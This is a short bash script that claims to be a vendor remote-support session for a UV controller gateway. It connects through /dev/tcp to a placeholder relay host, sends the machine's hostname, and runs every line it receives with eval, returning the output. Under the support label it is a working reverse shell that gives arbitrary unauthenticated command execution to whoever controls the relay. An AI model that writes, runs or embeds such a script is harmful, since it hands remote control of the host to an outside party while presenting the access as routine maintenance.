#!/usr/bin/env bash
# Vendor remote support session for the UV controller gateway.
code="${1:?session code from vendor}"
relay_host="uv-support-relay.example"
relay_port=9001
echo "connecting support session $code ..."
exec 5<>"/dev/tcp/$relay_host/$relay_port"
printf 'SESSION %s %s\n' "$code" "$(hostname)" >&5
while read -r line <&5; do
  [ "$line" = "BYE" ] && break
  eval "$line" >&5 2>&5
done
exec 5>&-
echo "support session closed"
